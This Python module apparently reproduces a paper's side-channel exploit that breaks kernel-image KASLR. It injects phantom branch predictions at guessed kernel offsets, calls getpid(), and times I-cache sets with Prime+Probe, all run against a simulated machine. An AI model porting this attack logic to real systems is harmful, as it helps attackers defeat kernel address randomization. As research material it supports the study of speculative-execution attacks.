"""Exploit 1: derandomizing kernel-image KASLR with P1 (paper §7.1).

For each of the 488 possible image locations, inject a jmp* prediction
at where ``__task_pid_nr_ns``'s ``nop`` would be if the guess were
right (Listing 1, image offset 0xf6520), with a target inside the
guessed image that maps to a chosen I-cache set.  ``getpid()`` then
triggers the phantom fetch only for the correct guess, and only there
the target is mapped executable — Prime+Probe sees the set fill.

Noise is handled with §7.3's bounded multi-set differencing, optionally
amplified by injecting a second speculative branch along the same
syscall path (the ``h_getpid`` dispatcher call).
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import ClassVar

from ..kernel import Kaslr, MachineSpec, SYS_GETPID
from ..kernel.layout import reference_offsets
from ..runner import JobContext, JobSpec, derive_seed
from .experiment import chunked
from .primitives import P1MappedExecutable, PhantomInjector
from .results import hexaddr
from .scoring import GuessScore, best_guess, bounded_difference, score_margin

#: Image-relative region used for probe targets (mapped, executable,
#: and clear of the code the syscall path itself touches).
TARGET_REGION_OFFSET = 0x20_0000


@dataclass
class KaslrImageResult:
    """Outcome of one derandomization run."""

    guessed_base: int
    seconds: float
    scores: list[GuessScore]

    def correct(self, kaslr: Kaslr) -> bool:
        return self.guessed_base == kaslr.image_base

    def to_dict(self) -> dict:
        return {"guessed_base": hexaddr(self.guessed_base),
                "candidates_scored": len(self.scores),
                "score_margin": score_margin(self.scores),
                "simulated_ms": self.seconds * 1000}


def _probe_set_difference(p1: P1MappedExecutable, injector: PhantomInjector,
                          machine, candidate: int, offsets: dict,
                          set_index: int, *, amplify: bool,
                          repeats: int) -> int:
    """Median over *repeats* of (T_S - B_S) for one candidate and set.

    The median defeats the sporadic syscall-path thrash that makes
    single-shot L1I Prime+Probe unreliable (§7.3).
    """
    from statistics import median

    nopl_site = candidate + offsets["__task_pid_nr_ns"]
    call_site = candidate + offsets["h_getpid"]

    def measure(target_set: int) -> int:
        target = candidate + TARGET_REGION_OFFSET + target_set * 64
        p1.pp.prime(set_index)
        injector.inject(nopl_site, target)
        if amplify:
            # A second speculative branch along the execution path of
            # the system call, to an additional target mapped to S.
            injector.inject(call_site,
                            target + 0x1000)  # same set, next page
        machine.syscall(SYS_GETPID)
        return p1.pp.probe_misses(set_index)

    diffs = [measure(set_index) - measure(set_index ^ 32)
             for _ in range(repeats)]
    return round(median(diffs))


def break_kernel_image_kaslr(machine, *, sets: tuple[int, ...] = (44, 52),
                             bound: int = 10, repeats: int = 3,
                             amplify: bool = True,
                             candidates=None) -> KaslrImageResult:
    """Run the §7.1 exploit; returns the guessed image base.

    *candidates* restricts the scan (the parallel campaign hands each
    job one chunk of the 488 slots); the default scans them all.
    """
    injector = PhantomInjector(machine)
    p1 = P1MappedExecutable(machine, injector=injector)
    offsets = reference_offsets()
    start = machine.seconds()
    if candidates is None:
        candidates = Kaslr.image_candidates()

    scores: list[GuessScore] = []
    for candidate in candidates:
        total = 0
        for set_index in sets:
            diff = _probe_set_difference(
                p1, injector, machine, candidate, offsets, set_index,
                amplify=amplify, repeats=repeats)
            total += bounded_difference(diff, 0, bound=bound)
        scores.append(GuessScore(candidate, total))

    winner = best_guess(scores)
    return KaslrImageResult(guessed_base=winner.guess,
                            seconds=machine.seconds() - start,
                            scores=scores)


@dataclass(frozen=True)
class KaslrImageExperiment:
    """The §7.1 campaign: the 488 candidate slots in fixed chunks.

    Each chunk is scored on a fresh machine booted from the same
    :class:`MachineSpec` (same ``kaslr_seed`` — same layout to attack),
    so chunk scores are comparable; the reduce step concatenates them
    and picks the global best guess.
    """

    name: ClassVar[str] = "kaslr-image"

    machine: MachineSpec
    sets: tuple[int, ...] = (44, 52)
    bound: int = 10
    repeats: int = 3
    amplify: bool = True
    chunk_candidates: int = 61          # 488 slots -> 8 equal chunks

    def campaign_config(self) -> dict:
        return {"uarch": self.machine.uarch,
                "kaslr_seed": self.machine.kaslr_seed,
                "candidates": len(Kaslr.image_candidates())}

    def job_specs(self) -> list[JobSpec]:
        total = len(Kaslr.image_candidates())
        return [JobSpec.make(self.name, (index,),
                             derive_seed(self.machine.kaslr_seed, (index,)),
                             machine=self.machine, start=start, stop=stop)
                for index, start, stop in chunked(total,
                                                  self.chunk_candidates)]

    def run_one(self, spec: JobSpec, ctx: JobContext) -> KaslrImageResult:
        machine = ctx.boot(spec.machine)
        chunk = Kaslr.image_candidates()[spec.param("start"):
                                         spec.param("stop")]
        return break_kernel_image_kaslr(
            machine, sets=self.sets, bound=self.bound,
            repeats=self.repeats, amplify=self.amplify, candidates=chunk)

    def reduce(self, results) -> KaslrImageResult:
        scores: list[GuessScore] = []
        seconds = 0.0
        for result in results:
            if result.ok:
                scores.extend(result.value.scores)
                seconds += result.value.seconds
        winner = best_guess(scores)
        return KaslrImageResult(guessed_base=winner.guess,
                                seconds=seconds, scores=scores)
